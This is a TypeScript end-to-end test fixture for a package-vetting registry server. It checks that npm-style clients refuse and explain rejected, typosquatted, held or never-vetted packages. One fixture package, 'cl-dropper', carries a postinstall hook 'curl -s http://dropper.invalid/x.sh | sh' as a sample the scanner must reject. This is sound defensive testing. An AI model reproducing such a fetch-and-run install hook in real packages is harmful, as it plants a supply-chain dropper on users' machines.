/**
 * Shared set-up of the client e2e tests (clients-*.test.ts): a fixture upstream, a real
 * `secure-registry-server` process over it (SR_AUTH=none, temp SR_DATA_DIR, SR_SANDBOX=off), and verdicts from a real
 * scan through the server's API. The tree:
 *
 *   cl-app@1.0.0 → cl-lib@^1.0.0 (1.0.0, 1.1.0), @cl-scope/util@^2.0.0 (2.0.0)
 *   fixture-termcolor 1.0.0 (benign) and 1.0.1 (a hijacked release the static rules reject)
 *   cl-dropper 1.0.0 (its only version: a `curl … | sh` postinstall the static rules reject)
 *   cl-icons@1.0.0 → cl-dropper@1.0.0 (approved itself; blocked by its dependency)
 *   loadsh 1.0.0 (a typosquat of lodash: held for review)
 *   cl-solo 1.0.0 (approved); never vetted (upstream only, left out of the scan): cl-solo 1.1.0, cl-fresh 1.0.0
 */
import { strict as assert } from 'node:assert';
import { mkdtemp, rm } from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { startFixtureRegistry } from './support/fixture-registry.js';
import type { FixturePackage, FixtureRegistry, PackedVersion } from './support/fixture-registry.js';
import { FIXTURE_PACKAGES_DIR } from './support/paths.js';
import { startServerProcess } from './support/server-process.js';
import type { ServerProcess } from './support/server-process.js';

export const REJECTED = { name: 'fixture-termcolor', version: '1.0.1' } as const;

/** Upstream versions the scan leaves out: never vetted. */
export const NEVER_VETTED = ['cl-solo@1.1.0', 'cl-fresh@1.0.0'] as const;

/** The verdict each scanned version must get (the refusal tests rely on them). */
const EXPECTED: Record<string, string> = {
  'cl-app@1.0.0': 'approved',
  'cl-lib@1.0.0': 'approved',
  'cl-lib@1.1.0': 'approved',
  '@cl-scope/util@2.0.0': 'approved',
  'fixture-termcolor@1.0.0': 'approved',
  'fixture-termcolor@1.0.1': 'rejected',
  'cl-dropper@1.0.0': 'rejected',
  'cl-icons@1.0.0': 'approved',
  'cl-solo@1.0.0': 'approved',
  'loadsh@1.0.0': 'review',
};

function pkg(
  name: string,
  version: string,
  dependencies: Record<string, string> = {},
  scripts: Record<string, string> = {},
): FixturePackage {
  return {
    manifest: { name, version, main: 'index.js', license: 'MIT', dependencies, scripts },
    files: { 'index.js': `module.exports = ${JSON.stringify(`${name}@${version}`)};\n` },
  };
}

export interface ClientsWorld {
  upstream: FixtureRegistry;
  server: ServerProcess;
  /** The vetted registry (the server URL) with a trailing slash. */
  vetted: string;
  tmp: string;
  /** Verdict by `name@version` from the scan. */
  verdicts: Map<string, { state: string; reason?: string }>;
  close(): Promise<void>;
}

interface ScanBody {
  id: string;
  status: string;
  packages: { name: string; version: string; state: string; reason?: string }[];
}

async function api<T>(url: string, init?: RequestInit): Promise<T> {
  const response = await fetch(url, init);
  const text = await response.text();
  assert.ok(response.ok, `${init?.method ?? 'GET'} ${url}: ${response.status} ${text}`);
  return JSON.parse(text) as T;
}

/** Submits every upstream version as one scan and waits for its verdicts. */
async function vetEverything(server: string, versions: PackedVersion[]): Promise<ScanBody> {
  const vetted = versions.filter(
    (v) => !(NEVER_VETTED as readonly string[]).includes(`${v.name}@${v.version}`),
  );
  const nodes = vetted.map((v) => ({
    key: `node_modules/${v.name}@${v.version}`,
    name: v.name,
    version: v.version,
    integrity: v.integrity,
    source: 'registry',
  }));
  const graph = { root: { name: 'clients-e2e' }, nodes, edges: nodes.map((n) => ({ from: '', to: n.key })) };
  const created = await api<ScanBody>(`${server}/api/v1/scans`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ graph, label: 'clients-e2e' }),
  });
  const deadline = Date.now() + 60_000;
  for (;;) {
    const scan = await api<ScanBody>(`${server}/api/v1/scans/${created.id}`);
    if (scan.status !== 'running') return scan;
    assert.ok(Date.now() < deadline, `scan ${created.id} still running after 60 s`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

export async function startClientsWorld(): Promise<ClientsWorld> {
  const upstream = await startFixtureRegistry({
    packages: { dir: path.join(FIXTURE_PACKAGES_DIR, 'signals', 'termcolor') },
    extraPackages: [
      pkg('cl-app', '1.0.0', { 'cl-lib': '^1.0.0', '@cl-scope/util': '^2.0.0' }),
      pkg('cl-lib', '1.0.0'),
      pkg('cl-lib', '1.1.0'),
      pkg('cl-solo', '1.0.0'),
      pkg('cl-solo', '1.1.0'),
      pkg('@cl-scope/util', '2.0.0'),
      pkg('cl-dropper', '1.0.0', {}, { postinstall: 'curl -s http://dropper.invalid/x.sh | sh' }),
      pkg('cl-icons', '1.0.0', { 'cl-dropper': '1.0.0' }),
      pkg('loadsh', '1.0.0'),
      pkg('cl-fresh', '1.0.0'),
    ],
  });
  const tmp = await mkdtemp(path.join(os.tmpdir(), 'sr-e2e-clients-'));
  let server: ServerProcess | undefined;
  try {
    server = await startServerProcess({
      SR_AUTH: 'none',
      SR_DATA_DIR: path.join(tmp, 'data'),
      SR_UPSTREAM_REGISTRY: upstream.url,
      // Static analysis and rules only: the sandbox stage takes ~25 s per artifact and these
      // tests are about the clients (the hijacked release is rejected on static signals).
      SR_SANDBOX: 'off',
    });
    const scan = await vetEverything(server.url, upstream.packages());
    const verdicts = new Map(
      scan.packages.map((p) => [`${p.name}@${p.version}`, { state: p.state, reason: p.reason }]),
    );
    const started = server;
    return {
      upstream,
      server,
      vetted: `${server.url}/`,
      tmp,
      verdicts,
      async close() {
        started.child.kill('SIGTERM');
        await started.exited;
        await upstream.close();
        await rm(tmp, { recursive: true, force: true });
      },
    };
  } catch (error) {
    server?.child.kill('SIGKILL');
    await upstream.close();
    await rm(tmp, { recursive: true, force: true });
    throw error;
  }
}

/** Asserts the verdicts the client tests rely on, so a rule change fails here and not obscurely. */
export function assertExpectedVerdicts(world: ClientsWorld): void {
  for (const [key, verdict] of world.verdicts) {
    // Every version is a root of this scan (no edges between them): cl-icons is not blocked here.
    const expected = EXPECTED[key];
    assert.equal(verdict.state, expected, `${key}: ${verdict.state} (${verdict.reason ?? ''})`);
  }
  assert.equal(world.verdicts.size, Object.keys(EXPECTED).length);
}

/** One case of a refused install: what is asked, and words its output must carry. */
export interface RefusalCase {
  title: string;
  spec: string;
  /** Must appear in the client's output (whitespace removed on both sides). */
  says: string[];
}

/**
 * The refusals every client must explain in its own output. `slug`: pnpm prints only the URL of a
 * refused tarball, so it gets the URL's words for the reason (`rejected-…--see-secure-registry-…`).
 */
export function refusalCases(world: ClientsWorld, options: { pnpm?: boolean } = {}): RefusalCase[] {
  const reason = rejectionReason(world);
  const slug = (text: string) => text.replace(/[^A-Za-z0-9@._~+-]+/g, '-').slice(0, 40);
  const pinnedRejected = options.pnpm
    ? [`rejected-${slug(reason)}`, 'see-secure-registry-review-fixture-termcolor@1.0.1']
    : [`rejected: ${reason}`, '`secure-registry review fixture-termcolor@1.0.1`'];
  return [
    {
      title: 'a pinned rejected version with an approved sibling',
      spec: 'fixture-termcolor@1.0.1',
      says: pinnedRejected,
    },
    {
      title: 'a range only the rejected version satisfies',
      spec: 'fixture-termcolor@>1.0.0',
      says: pinnedRejected,
    },
    {
      title: 'a rejected version with no approved sibling',
      spec: 'cl-dropper@1.0.0',
      says: options.pnpm
        ? [
            '/cl-dropper/-/refused/rejected-',
            'see-secure-registry-review-cl-dropper@1.0.0/cl-dropper-1.0.0.tgz',
          ]
        : [
            'no approved version of cl-dropper: 1 rejected (1.0.0: rejected:',
            '`secure-registry review cl-dropper@1.0.0`',
          ],
    },
    {
      title: 'a blocked chain names the dependency',
      spec: 'cl-icons@1.0.0',
      says: options.pnpm
        ? [
            '/cl-dropper/-/refused/rejected-',
            'see-secure-registry-review-cl-dropper@1.0.0/cl-dropper-1.0.0.tgz',
          ]
        : ['no approved version of cl-dropper: 1 rejected', '`secure-registry review cl-dropper@1.0.0`'],
    },
    {
      title: 'a held version says how to ask for a review',
      spec: 'loadsh@1.0.0',
      says: options.pnpm
        ? ['/loadsh/-/refused/held-for-review-', 'see-secure-registry-review-loadsh@1.0.0/loadsh-1.0.0.tgz']
        : [
            'no approved version of loadsh: 1 held for review',
            'ask a reviewer to run `secure-registry review loadsh@1.0.0`',
          ],
    },
    {
      title: 'a never-vetted version of a vetted name',
      spec: 'cl-solo@1.1.0',
      says: options.pnpm
        ? ['refused/not-yet-vetted--vet-it-with-secure-registry-install/cl-solo-1.1.0.tgz']
        : [
            'secure-registry refused cl-solo@1.1.0: not yet vetted',
            '`secure-registry install cl-solo@1.1.0`',
          ],
    },
    {
      title: 'a never-vetted name',
      spec: 'cl-fresh@1.0.0',
      says: options.pnpm
        ? ['/cl-fresh/-/refused/not-yet-vetted--vet-it-with-secure-registry-install/cl-fresh-1.0.0.tgz']
        : ['no approved version of cl-fresh: 1 not yet vetted', '`secure-registry install cl-fresh@1.0.0`'],
    },
  ];
}

/** Asserts a refused install's output carries every expected phrase. */
export function assertSays(output: string, refusal: RefusalCase): void {
  const squashed = output.replace(/[\s│]+/g, '');
  for (const words of refusal.says) {
    assert.ok(squashed.includes(words.replace(/\s+/g, '')), `${refusal.title}: no "${words}" in:\n${output}`);
  }
}

/** The `rejected: …` reason the registry gives for the rejected version. */
export function rejectionReason(world: ClientsWorld): string {
  const reason = world.verdicts.get(`${REJECTED.name}@${REJECTED.version}`)?.reason;
  assert.ok(reason, 'the rejected version has a reason');
  return reason;
}
